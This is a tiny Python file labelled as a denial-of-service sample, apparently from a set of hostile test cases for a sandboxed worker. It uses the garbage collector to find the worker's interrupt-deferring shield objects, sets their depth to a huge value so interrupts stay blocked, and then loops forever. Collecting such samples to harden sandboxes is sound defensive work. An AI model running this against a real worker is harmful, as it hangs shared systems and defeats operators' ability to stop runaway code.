# class: dos
# Keeps up the shield under which the worker defers interrupts.
import gc,guest.worker.channel
for o in gc.get_objects():
    if isinstance(o,guest.worker.channel._Shield): o._depth=10**9
while True: pass
